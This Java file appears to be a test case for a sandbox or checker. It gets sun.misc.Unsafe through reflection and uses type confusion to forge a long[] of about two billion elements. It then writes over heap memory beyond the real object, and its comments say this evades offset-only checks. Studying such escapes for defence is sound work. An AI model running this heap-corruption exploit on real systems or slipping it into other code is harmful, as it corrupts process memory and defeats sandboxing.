package escape.native_;

import java.lang.reflect.Field;

/**
 * Stores, with {@code sun.misc.Unsafe.putObject}, an object of its own into a field of its own
 * that is typed {@code long[]}: the object's field where an array keeps its length makes a "long
 * array" of two billion elements over the heap beyond it, whose writes reach other programs' objects
 * and then memory the JVM never gave out. Every offset it uses is of its own class: a check of the
 * offsets alone lets it through.
 *
 * <p>Source: JEP 471, which names heap corruption by type confusion among what sun.misc.Unsafe
 * lets a program do, https://openjdk.org/jeps/471
 */
public final class UnsafeTypeConfusion {

    /** Its {@code length} lies where a {@code long[]}'s length does (offset 12, compressed class pointers). */
    static final class Fake {
        int length = Integer.MAX_VALUE;
    }

    static final class Holder {
        long[] array;
    }

    private UnsafeTypeConfusion() {
    }

    public static void main(String[] args) {
        try {
            Field theUnsafe = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
            Holder holder = new Holder();
            unsafe.putObject(holder, unsafe.objectFieldOffset(Holder.class.getDeclaredField("array")), new Fake());
            long[] heap = holder.array;
            System.out.println("native-unsafe-type-confusion: a long[] of " + heap.length + " over the heap; writing past it");
            for (int i = 1 << 27; i > 0 && i < Integer.MAX_VALUE - (1 << 27); i += 1 << 27) {
                heap[i] = 0x4141414141414141L;
            }
            System.out.println("native-unsafe-type-confusion: the writes returned?!");
        } catch (Throwable t) {
            System.out.println("native-unsafe-type-confusion: " + t);
        }
    }
}
